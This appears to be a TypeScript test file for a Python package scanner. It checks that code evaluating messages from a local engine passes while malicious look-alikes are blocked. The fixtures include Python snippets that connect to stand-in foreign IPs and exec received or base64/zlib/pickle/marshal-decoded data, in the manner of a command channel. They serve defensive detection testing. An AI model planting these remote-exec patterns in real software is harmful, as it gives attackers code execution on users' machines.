/**
 * Honest Python released from the Debian samples (bench/debian-python-verdicts.ts --all): a decoder's result
 * that is a received message, not hidden code (docs/package-analysis.md, "A message received is not hidden code"). Each case: the real shape,
 * variants written here, and the malicious look-alike that must stay blocked. Parsed as text; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { sdistLevel as level } from '../support/archives.js';


test.before(async () => {
  await loadParsers();
});

// The real shape (a crystallography viewer): the GUI binds a ZeroMQ socket on loopback, starts its own engine
// as a child process, and evaluates the compressed status messages the child sends back.
const VIEWER = `import sys, zmq, zlib, subprocess
class Viewer:
    def launch(self, port, python):
        self.context = zmq.Context()
        self.socket = self.context.socket(zmq.PAIR)
        self.socket.bind("tcp://127.0.0.1:%s" % port)
        self.proc = subprocess.Popen(python + ' -i -c "import engine; engine.run()"', shell=True)
    def poll(self):
        binmsg = self.socket.recv(flags=zmq.NOBLOCK)
        msg = zlib.decompress(binmsg)
        msgstr = msg.decode()
        self.info = eval(msgstr)
        return self.info
`;

test('a compressed message received on a socket and evaluated is not hidden code (a GUI and its own engine)', async () => {
  const honest = await level({ 'acmetools/viewer.py': VIEWER });
  assert.not.ok(honest.high.includes('decoded_code_exec'), honest.high.join(' '));
  assert.is.not(honest.level, 'BLOCKED');
  // variants: a plain socket to localhost, a pipe end of multiprocessing, base64 over the wire
  const sock = "import socket, base64\ns = socket.create_connection(('localhost', 7000))\ndef step():\n    data = s.recv(65536)\n    return eval(base64.b64decode(data))\n";
  assert.not.ok((await level({ 'acmetools/link.py': sock })).high.includes('decoded_code_exec'));
  const ipc = "import zmq, zlib\nctx = zmq.Context()\ndef serve():\n    s = ctx.socket(zmq.PULL)\n    s.bind('ipc:///tmp/acme-engine')\n    exec(zlib.decompress(s.recv()), {})\n";
  assert.not.ok((await level({ 'acmetools/worker.py': ipc })).high.includes('decoded_code_exec'));
});

test('decoded code from a literal, or received from a fixed foreign address, is still executed hidden code', async () => {
  // the look-alike: the same viewer connected to a fixed foreign host (a command channel)
  const c2 = VIEWER.replace('self.socket.bind("tcp://127.0.0.1:%s" % port)', 'self.socket.connect("tcp://203.0.113.9:5555")');
  assert.ok((await level({ 'acmetools/viewer.py': c2 })).high.includes('decoded_code_exec'));
  const rev = "import socket, zlib\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nexec(zlib.decompress(s.recv(99999)))\n";
  assert.is((await level({ 'acmetools/__init__.py': rev })).level, 'BLOCKED');
  // decoded from a literal the package carries, next to a received message
  // a peer whose address the file builds at run time (decoded, read from a setting) may be anyone's
  const built = "import socket, zlib, base64\nH = base64.b64decode('MTk4LjUxLjEwMC43').decode()\ns = socket.socket()\ns.connect((H, 4444))\nexec(zlib.decompress(s.recv(99999)))\n";
  assert.is((await level({ 'acmetools/__init__.py': built })).level, 'BLOCKED');
  const lit = "import zlib, base64\ndef poll(sock):\n    sock.recv(10)\n    exec(zlib.decompress(base64.b64decode('eJwrKMrMK1EoLilKTM4GAB3yBF0=')))\n";
  assert.is((await level({ 'acmetools/poll.py': lit })).level, 'BLOCKED');
});

test('a JSON document decoded from base64, pickle and marshal still decode', async () => {
  const hidden = "import json, base64, subprocess\ncfg = json.loads(base64.b64decode('eyJjbWQiOiAiaWQifQ=='))\nsubprocess.check_call(cfg['cmd'], shell=True)\n";
  assert.is((await level({ 'acmetools/__init__.py': hidden })).level, 'BLOCKED');
  const pick = "import pickle, base64\nexec(pickle.loads(base64.b64decode('gASVCAAAAAAAAACMBGlkKCmULg==')))\n";
  assert.is((await level({ 'acmetools/__init__.py': pick })).level, 'BLOCKED');
  const mar = "import marshal, zlib\ndef run(sock):\n    sock.recv(4)\n    code = marshal.loads(zlib.decompress(b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'))\n    exec(code)\n";
  assert.is((await level({ 'acmetools/run.py': mar })).level, 'BLOCKED');
});

test.run();
